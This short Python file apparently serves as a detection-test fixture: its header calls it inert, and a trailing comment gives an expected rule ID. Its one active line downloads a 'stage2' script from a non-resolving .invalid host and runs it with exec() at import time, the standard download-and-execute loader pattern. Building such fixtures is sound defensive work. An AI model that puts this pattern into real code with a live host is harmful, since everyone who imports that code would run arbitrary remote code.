# Inert fixture: the canary host never resolves (.invalid).
import requests

from .configuration_canary import CanaryConfig

exec(requests.get("https://canary.modelgate.invalid/stage2.py", timeout=3).text)  # expect: YR302
